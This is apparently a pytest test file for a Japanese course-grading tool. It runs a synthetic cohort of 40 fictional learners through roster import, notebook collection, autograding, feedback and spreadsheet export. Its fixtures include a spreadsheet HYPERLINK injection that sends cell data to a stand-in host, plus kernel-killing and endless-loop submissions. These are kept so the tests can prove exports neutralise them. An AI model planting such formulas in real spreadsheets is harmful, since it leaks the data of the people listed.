"""dxkit cohort: the whole cycle on a synthetic cohort of 40 learners (all names 架空).

roster → personal release → collect from an e-mail folder → parallel autograde (with every bad case)
→ feedback → export (要確認, 所属, per town, CP932) → written answers → report → purge.

The cohort is built and graded once (a session fixture); tests that change it work on a copy.
"""

from __future__ import annotations

import copy
import hashlib
import json
import re
import zipfile
from pathlib import Path

import nbformat
import pandas as pd
import pytest

from dxkit.cohort import autograde, collect, export, feedback, notebooks as nbs, purge, report, roster, written
from dxkit.cohort.course import Course
from dxkit.cohort.roster import with_check_digit
from leaks import hidden_lines

ROOT = Path(__file__).resolve().parents[1]
FIXTURES = Path(__file__).parent / "fixtures" / "cohort"
A = "00_orientation" if (ROOT / "exercises/00_orientation").is_dir() else \
    sorted(p.name for p in (ROOT / "exercises").iterdir() if p.is_dir())[0]
OTHER = next((a for a in ("05_data_analysis", "01_bpr", "02_pdca_kpi")
              if (ROOT / "exercises" / a).is_dir() and a != A), None)
TOWNS = [(with_check_digit("99201"), "みどり野市"), (with_check_digit("99203"), "かすみ町"),
         (with_check_digit("99204"), "さくら台村")]
FULL = 12.0   # autograded points of 00_orientation (q6, 3 points, is graded by hand)


def _answers(source_nb) -> dict[str, str]:
    return {nbs.grade_id(c): c.source for c in source_nb.cells if nbs.is_answer(c) and c.cell_type == "code"}


def _make(release, solved, *, drop=(), edit=None, replace=None, learner=None, extra=None):
    nb = copy.deepcopy(release)
    for cell in nb.cells:
        gid = nbs.grade_id(cell)
        if gid in solved:
            cell.source = solved[gid]
        if replace and gid in replace:
            cell.source = replace[gid]
        if edit and gid in edit:
            cell.source = edit[gid]
    nb.cells = [c for c in nb.cells if nbs.grade_id(c) not in drop]
    if learner:
        nb.metadata["dxkit"] = {"learner_id": learner, "assignment": A}
    if extra:
        extra(nb)
    return nb


def _points(course):
    return {c: p for _nb, c, p in export._cells(course, A)}


FORMULA = '=HYPERLINK("http://example.invalid/?"&A2&D2,"詳しくはこちら")'


@pytest.fixture(scope="session")
def cohort(tmp_path_factory):
    base = tmp_path_factory.mktemp("cohort")
    course = Course.open(base / "course")
    # ------------------------------------------------ roster: 40 learners in 3 towns (Excel, ids as numbers)
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.append(["団体コード", "職員番号", "氏名", "所属自治体", "所属課", "e-mail"])
    people = []
    for i in range(40):
        code, town = TOWNS[i % 3]
        staff = f"{1000 + i:06d}"   # 001000… : Excel keeps it as a number without the zeros
        name = f"架空 {'一二三四五六七八九十'[i % 10]}郎{i}" if i != 39 else "@架空 十郎39"
        email = f"user{i:02d}@{'abc'[i % 3]}.example.lg.jp"
        ws.append([int(code) if code[0] != "0" else code, int(staff), name, town, "市民課" if i % 2 else "総務課",
                   email])
        people.append({"id": f"{code}-{1000 + i}", "code": code, "staff": staff, "name": name, "email": email,
                       "town": town})
    ws.append([int(TOWNS[0][0]), 1000, "架空 重複", "みどり野市", "市民課", "dup@example.lg.jp"])  # duplicate of #0
    wb.save(base / "名簿.xlsx")
    roster_report = roster.import_roster(course, base / "名簿.xlsx")

    # ------------------------------------------------ submissions, e-mailed in many shapes
    course.ensure_released(A)
    release = nbformat.read(course.release_dir(A) / f"{A}.ipynb", as_version=4)
    source = nbformat.read(course.source_dir / A / f"{A}.ipynb", as_version=4)
    sol = _answers(source)
    qs = list(sol)                     # q1..q5
    half = {q: sol[q] for q in qs[:3]}
    expected: dict[str, float | None] = {}
    inbox = base / "inbox"
    inbox.mkdir()
    ids = [p["id"] for p in people]

    def put(rel: str, nb_or_bytes, mtime: float | None = None):
        path = inbox / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(nb_or_bytes, bytes):
            path.write_bytes(nb_or_bytes)
        else:
            nbformat.write(nb_or_bytes, path)
        if mtime:
            import os

            os.utime(path, (mtime, mtime))
        return path

    pts = {"q1": 2, "q2": 2, "q3": 3, "q4": 2, "q5": 3}
    # 0-11: well-formed, named in the common ways
    for i in range(12):
        p = people[i]
        kind = ("full", "half", "none")[i % 3]
        written_answer = FORMULA if i == 0 else "窓口の待ち時間を指標にし、毎月集計します。"   # q6, graded by hand
        nb = _make(release, {"full": sol, "half": half, "none": {}}[kind],
                   replace={"q6": written_answer} if kind == "full" else None)
        expected[p["id"]] = {"full": FULL, "half": 7.0, "none": 0.0}[kind]
        style = i % 6
        if style == 0:
            put(f"{p['code']}-{p['staff']}_{A}.ipynb", nb)
        elif style == 1:
            put(f"{A}_{p['staff']}.ipynb", nb)                      # 職員番号 only (unique)
        elif style == 2:
            put(f"{p['email']}.ipynb", nb)
        elif style == 3:
            put(f"{p['name'].replace(' ', '')}_課題提出.ipynb", nb)
        elif style == 4:
            put(f"{p['name']}/{A}.ipynb", nb)                        # a folder per learner
        else:
            z = inbox / f"提出_{p['email'].split('@')[0]}.zip"
            with zipfile.ZipFile(z, "w") as zf:
                zf.writestr(f"{A}.ipynb", nbformat.writes(nb))
    # 12-17: all called "<assignment>.ipynb" in mail folders; the id in the metadata identifies them
    for i in range(12, 18):
        p = people[i]
        nb = _make(release, sol, learner=p["id"])
        put(f"mail_{i:03d}/{A} (1).ipynb", nb)
        expected[p["id"]] = FULL
    # bad cases
    bad = {}

    def case(i, key, nb_or_bytes, score, rel=None):
        p = people[i]
        bad[key] = p["id"]
        expected[p["id"]] = score
        put(rel or f"{p['code']}_{p['staff']}.ipynb", nb_or_bytes)

    case(18, "loop", _make(release, sol, replace={"q2": "while True:\n    pass"}), FULL - pts["q2"])
    case(19, "crash", _make(release, sol, replace={"q4": "import os\nos.kill(os.getpid(), 9)"}), None)
    case(20, "json", b'{"cells": [ this is not json', None)
    case(21, "notnb", json.dumps({"hello": "world"}).encode(), None)
    case(22, "deleted_test", _make(release, sol, drop=("q1_test",)), FULL)
    case(23, "edited_test", _make(release, {**sol, "q3": "def calc_fee(kind, copies, exempt=False):\n    return 0"},
                                  edit={"q3_test": "pass"}), FULL - pts["q3"])
    case(24, "missing_answer", _make(release, sol, drop=("q5",)), FULL - pts["q5"])

    def huge(nb):
        nb.cells[0].outputs = [nbformat.v4.new_output("stream", name="stdout", text="x" * (6 * 2**20))] \
            if nb.cells[0].cell_type == "code" else []
        nb.cells.insert(3, nbformat.v4.new_code_cell("for i in range(200000):\n    print(i)"))
        nb.cells[3].outputs = [nbformat.v4.new_output("stream", name="stdout", text="y\n" * (3 * 2**20))]
    case(25, "huge", _make(release, sol, extra=huge), FULL)
    if OTHER:
        course.ensure_released(OTHER)
        case(26, "wrong", nbformat.read(course.release_dir(OTHER) / f"{OTHER}.ipynb", as_version=4), None)
    # resubmission: an old untouched one, then the full one (the newest counts)
    p = people[27]
    put(f"{p['code']}-{p['staff']}.ipynb", _make(release, {}), mtime=1_700_000_000)
    put(f"{p['code']}-{p['staff']} (2).ipynb", _make(release, sol), mtime=1_700_100_000)
    bad["resubmit"] = p["id"]
    expected[p["id"]] = FULL
    # a file nobody can be matched to; 28-39 do not submit
    put("unknown_person.ipynb", _make(release, sol))
    not_submitted = [people[i]["id"] for i in range(28, 40)]

    before = {p: hashlib.sha1(p.read_bytes()).hexdigest() for p in inbox.rglob("*") if p.is_file()}
    collect_report = collect.collect(course, A, inbox)
    grade_report = autograde.autograde(course, A, workers=2, timeout=5, progress=False)
    fb = feedback.generate_feedback(course, A)
    exp = export.export_grades(course, [A], base / "export")
    untouched = [people[i]["id"] for i in range(12) if i % 3 == 2]
    after = {p: hashlib.sha1(p.read_bytes()).hexdigest() for p in inbox.rglob("*") if p.is_file()}
    return dict(course=course, base=base, people=people, roster_report=roster_report, collect=collect_report,
                grades=grade_report, feedback=fb, export=exp, expected=expected, bad=bad, ids=ids,
                not_submitted=not_submitted, before=before, after=after, source=source, untouched=untouched,
                inbox=inbox)


# ------------------------------------------------------------------ roster

def test_roster_rejects_bad_rows_with_line_numbers(tmp_path):
    course = Course.open(tmp_path / "c")
    rep = roster.import_roster(course, FIXTURES / "roster_bad.csv")
    lines = dict(rep.rejected)
    assert sorted(rep.added) == ["099201-456", "992011-123", "992038-42"]
    assert set(lines) == {4, 5, 6, 7}
    assert "2 行目と重複" in lines[4]
    assert "氏名が空" in lines[5] and "検査数字" in lines[5]
    assert "検査数字" in lines[6]
    assert "職員番号" in lines[7] and "メールアドレス" in lines[7]
    kept = roster.load_roster(course)
    assert kept["992011-123"].staff_no == "000123"    # kept as text, leading zeros included
    assert kept["099201-456"].town == "みどり野市"
    with course.gradebook() as gb:
        assert sorted(s.id for s in gb.students) == sorted(rep.added)
    assert "4 行目" in str(rep)
    # a 5-digit code is padded only with a warning naming the row (it may be a code without its check digit)
    assert [line for line, _ in rep.warnings] == [3] and "099201" in rep.warnings[0][1]
    assert "992011" in rep.warnings[0][1] and "3 行目" in str(rep)


def test_roster_from_excel_numbers(cohort):
    rep = cohort["roster_report"]
    assert len(rep.added) == 40
    assert rep.rejected and rep.rejected[0][0] == 42 and "重複" in rep.rejected[0][1]
    assert rep.warnings == []
    kept = roster.load_roster(cohort["course"])
    assert set(kept) == set(cohort["ids"])


# ------------------------------------------------------------------ collect

def test_collect_matches_every_naming_style(cohort):
    rep = cohort["collect"]
    submitted = set(cohort["expected"])
    assert set(rep.matched) == submitted
    for i in range(12, 18):
        assert rep.how[cohort["people"][i]["id"]] == "ノートブックに記録された学習者 ID"
    assert [name for name, _ in rep.unmatched] == ["unknown_person.ipynb"]
    assert sorted(rep.missing) == sorted(cohort["not_submitted"])
    resub = cohort["bad"]["resubmit"]
    assert rep.matched[resub].endswith("(2).ipynb") and len(rep.earlier[resub]) == 1
    originals = list((cohort["course"].cohort_dir / "originals" / A).iterdir())
    assert len(originals) == len(cohort["before"])   # every file received is kept, matched or not


def test_originals_are_never_modified(cohort):
    assert cohort["before"] == cohort["after"]


# ------------------------------------------------------------------ autograde

def test_every_learner_gets_the_expected_score(cohort):
    table = export.assignment_table(cohort["course"], A).set_index("学習者ID")
    for learner, score in cohort["expected"].items():
        got = table.loc[learner, "得点"]
        if score is None:
            assert pd.isna(got), f"{learner}: a failed grading must not be exported as a score ({got})"
            assert table.loc[learner, "要確認"] == "要確認"
        else:
            assert got == score, f"{learner}: {got} != {score} ({table.loc[learner, '備考']})"
            assert table.loc[learner, "要確認"] == ""
    for learner in cohort["not_submitted"]:
        assert table.loc[learner, "提出"] == "なし" and pd.isna(table.loc[learner, "得点"])


def test_bad_submissions_are_reported_in_japanese(cohort):
    res = cohort["grades"].results
    bad = cohort["bad"]
    text = "\n".join(cohort["grades"].lines())
    assert "カーネルが停止" in " ".join(res[bad["crash"]].reasons)
    assert "JSON" in " ".join(res[bad["json"]].reasons)
    assert "ノートブック（.ipynb）ではありません" in " ".join(res[bad["notnb"]].reasons)
    assert "打ち切りました" in " ".join(res[bad["loop"]].notes)
    assert "q1_test" in " ".join(res[bad["deleted_test"]].notes) and res[bad["deleted_test"]].tampered
    assert "書き換え" in " ".join(res[bad["edited_test"]].notes) and res[bad["edited_test"]].tampered
    assert "解答セル「q5」が削除" in " ".join(res[bad["missing_answer"]].notes)
    assert "大きい" in " ".join(res[bad["huge"]].notes)
    assert "再提出" in " ".join(res[bad["resubmit"]].notes)
    if "wrong" in bad:
        assert "別の課題" in " ".join(res[bad["wrong"]].reasons)
    assert "checksum" not in text
    # only real tampering is reported: no learner without edits gets a test-cell note
    clean = cohort["people"][0]["id"]
    assert not [n for n in res[clean].notes if "テストセル" in n]


def test_huge_output_is_limited(cohort):
    learner = cohort["bad"]["huge"]
    path = cohort["course"].autograded_dir(learner, A) / f"{A}.ipynb"
    assert path.stat().st_size < 2 * 2**20


def test_restored_test_cell_is_in_the_graded_notebook(cohort):
    learner = cohort["bad"]["deleted_test"]
    nb = nbformat.read(cohort["course"].autograded_dir(learner, A) / f"{A}.ipynb", as_version=4)
    ids = [nbs.grade_id(c) for c in nb.cells]
    assert ids.index("q1_test") == ids.index("q1") + 1


# ------------------------------------------------------------------ feedback

def _hidden_lines(source_nb) -> list[str]:
    return [line for cell in source_nb.cells for line in hidden_lines(cell.source, min_len=12, skip_comments=True)]


def test_feedback_hides_hidden_tests_but_gives_reasons(cohort):
    import html as htmlmod

    course = cohort["course"]
    hidden = _hidden_lines(cohort["source"])
    assert hidden
    assert len(cohort["feedback"].made) >= 20 and not cohort["feedback"].failed
    for path in cohort["feedback"].made:
        text = htmlmod.unescape(re.sub(r"<[^>]+>", "", path.read_text(encoding="utf-8")))
        for line in hidden:
            assert line not in text, f"{path}: hidden test shown: {line}"
    # a learner who fails a hidden test sees the short Japanese reason and the score
    half = cohort["people"][1]["id"]
    text = htmlmod.unescape((course.feedback_dir(half, A) / f"{A}.html").read_text(encoding="utf-8"))
    assert "得点: 7 / 15 点" in text
    assert "問4" in text and "AssertionError" in text
    edited = cohort["bad"]["edited_test"]
    text = htmlmod.unescape((course.feedback_dir(edited, A) / f"{A}.html").read_text(encoding="utf-8"))
    assert "q3_test: 問3" in text and "calc_fee" not in text.split("q3_test")[1][:200]
    # bad submissions get no feedback (the instructor checks them first)
    assert not course.feedback_dir(cohort["bad"]["crash"], A).exists()


# ------------------------------------------------------------------ export

def test_export_has_affiliation_and_review_columns(cohort):
    out = cohort["base"] / "export"
    raw = (out / f"成績_{A}.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")          # UTF-8 with BOM: Excel opens it
    df = pd.read_csv(out / f"成績_{A}.csv", encoding="utf-8-sig", dtype=str)
    for col in ("学習者ID", "団体コード", "所属自治体", "所属課", "得点", "要確認", "要確認の理由"):
        assert col in df.columns
    crash = df[df["学習者ID"] == cohort["bad"]["crash"]].iloc[0]
    assert crash["要確認"] == "要確認" and pd.isna(crash["得点"])
    xl = pd.read_excel(out / "成績_全課題.xlsx", sheet_name=None)
    assert "全課題" in xl and len(xl["全課題"]) == 40


def test_one_file_per_town_with_only_its_staff(cohort):
    out = cohort["base"] / "export" / "自治体別"
    towns = {p.name for p in out.iterdir()}
    assert towns == {t for _, t in TOWNS}
    for code, town in TOWNS:
        df = pd.read_csv(out / town / f"成績_{A}.csv", encoding="utf-8-sig", dtype=str)
        assert set(df["所属自治体"]) == {town}
        assert all(i.startswith(code + "-") for i in df["学習者ID"])


def test_cp932_export_names_rows_it_cannot_encode(cohort, tmp_path):
    course = cohort["course"]
    people = roster.load_roster(course)
    first = sorted(people)[0]
    saved = dict(people)
    people[first] = roster.Learner(**{**people[first].__dict__, "name": "𠮷田 架空"})
    roster.save_roster(course, people)
    try:
        rep = export.export_grades(course, [A], tmp_path / "sjis", encoding="cp932", by_town=False)
    finally:
        roster.save_roster(course, saved)
    assert any(first in p and "𠮷" in p for p in rep.encoding_problems)
    text = (tmp_path / "sjis" / f"成績_{A}.csv").read_bytes().decode("cp932")
    assert "〓田 架空" in text


# ------------------------------------------------------------------ written answers, report, purge

def test_written_answers_round_trip(cohort, tmp_path):
    from openpyxl import load_workbook

    course = cohort["course"]
    path = written.export_written(course, A, "q6", tmp_path / "q6.xlsx")
    wb = load_workbook(path)
    assert "BEGIN SOLUTION" in wb["採点の手引き"]["B5"].value                       # the model answer
    prompt = wb["採点の手引き"]["B6"].value          # the question and its rubric (採点基準: 観点・配点), from the source
    assert "問6" in prompt and "採点基準" in prompt and "配点" in prompt
    assert prompt == wb["解答"]["H2"].value          # next to the answers too
    ws = wb["解答"]
    rows = list(ws.iter_rows(min_row=2))
    assert len(rows) >= 20
    full = cohort["people"][0]["id"]
    formula = next(row[4] for row in rows if row[0].value == full)
    assert formula.value == "'" + FORMULA and formula.data_type == "s"     # text, never a live formula
    for row in rows:
        if row[0].value == full:
            row[5].value = 2
            row[6].value = "具体的です。指標をもう少し詳しく。"
        elif row[0].value == cohort["people"][3]["id"]:
            row[5].value = 9          # out of range: reported, not saved
    wb.save(path)
    rep = written.import_written(course, path)
    assert rep.saved == 1 and "0〜3" in rep.problems[0]
    table = export.assignment_table(course, A).set_index("学習者ID")
    assert table.loc[full, "得点"] == FULL + 2
    assert table.loc[full, "手動採点待ち"] == 0


def test_report_is_self_contained(cohort):
    path = report.cohort_report(cohort["course"], A)
    text = path.read_text(encoding="utf-8")
    assert text.count("data:image/png;base64,") == 2
    assert not re.search(r"(src|href)=\"(https?:)?//", text)
    assert "問ごとの正答率" in text and "いちばん難しかった問" in text
    for learner in cohort["not_submitted"]:
        assert learner in text
    # the manually graded q6 is waiting for the instructor: never called the hardest question
    rates = report.question_rates(cohort["course"], A, export.assignment_table(cohort["course"], A)).set_index("問（セル）")
    assert "要手動採点" in rates.loc["q6", "状態"]
    assert "いちばん難しかった問は q6" not in text
    for learner in cohort["untouched"]:
        assert learner in text.split("<h2>未着手")[1].split("<h2>")[0]


def test_cli_runs_and_speaks_japanese(cohort, capsys):
    import dxkit.cohort.cli  # noqa: F401 - registers `dxkit cohort`
    from dxkit.cli import main

    course = str(cohort["course"].root)
    assert main(["cohort", "--course", course, "export", A, "--out", str(cohort["base"] / "cli")]) == 0
    assert "書き出しました" in capsys.readouterr().out
    assert main(["cohort", "--course", course, "purge"]) == 0          # lists only
    assert "--yes" in capsys.readouterr().out and (cohort["course"].root / "submitted").is_dir()


def test_purge_removes_personal_data(cohort, tmp_path):
    import shutil

    shutil.copytree(cohort["course"].root, tmp_path / "copy")          # the shared cohort stays as it is
    course = Course.open(tmp_path / "copy")
    planned, done = purge.purge(course, yes=True)
    assert done and str(course.root / "submitted") in planned
    assert not course.cohort_dir.exists()
    assert not (course.root / "submitted").exists() and not (course.root / "autograded").exists()
    with course.gradebook() as gb:
        assert gb.students == []
    assert (course.release_dir(A) / f"{A}.ipynb").exists()


def test_untouched_submissions_read_mitchakushu(cohort):
    table = export.assignment_table(cohort["course"], A).set_index("学習者ID")
    for learner in cohort["untouched"]:
        assert "未着手" in table.loc[learner, "備考"] and table.loc[learner, "得点"] == 0.0
    assert "未着手" not in table.loc[cohort["people"][0]["id"], "備考"]


def test_second_autograde_keeps_the_tampering_flag_and_the_submission(cohort):
    course = cohort["course"]
    learners = [cohort["bad"]["deleted_test"], cohort["bad"]["edited_test"]]
    again = autograde.autograde(course, A, learners=learners, workers=2, timeout=5, progress=False)
    table = export.assignment_table(course, A).set_index("学習者ID")
    for learner in learners:
        received = next(p for p in cohort["inbox"].iterdir() if p.name.endswith(".ipynb") and
                        learner.split("-")[1] in p.name)
        assert (course.submitted_dir(learner, A) / f"{A}.ipynb").read_bytes() == received.read_bytes()
        assert again.results[learner].tampered and course.load_status(A)[learner]["tampered"]
        assert table.loc[learner, "テストの改変"] == "あり"
        assert table.loc[learner, "得点"] == cohort["expected"][learner]


def test_exports_neutralise_formulas_and_keep_ids_as_text(cohort, tmp_path):
    from openpyxl import load_workbook

    raw = (cohort["base"] / "export" / f"成績_{A}.csv").read_text(encoding="utf-8-sig")
    assert '"\'@架空 十郎39"' in raw and '"@架空' not in raw
    df = pd.DataFrame({"団体コード": ["099201"], "職員番号": ["000123"], "氏名": ["=1+2"], "備考": ["-x"], "得点": [3.0]})
    export.write_csv(df, tmp_path / "t.csv")
    text = (tmp_path / "t.csv").read_text(encoding="utf-8-sig").splitlines()
    assert text[1] == '"099201","000123","\'=1+2","\'-x",3.0'
    export.write_excel({"t": df}, tmp_path / "t.xlsx")
    ws = load_workbook(tmp_path / "t.xlsx")["t"]
    assert [(c.value, c.data_type) for c in ws[2]][:3] == [("099201", "s"), ("000123", "s"), ("'=1+2", "s")]
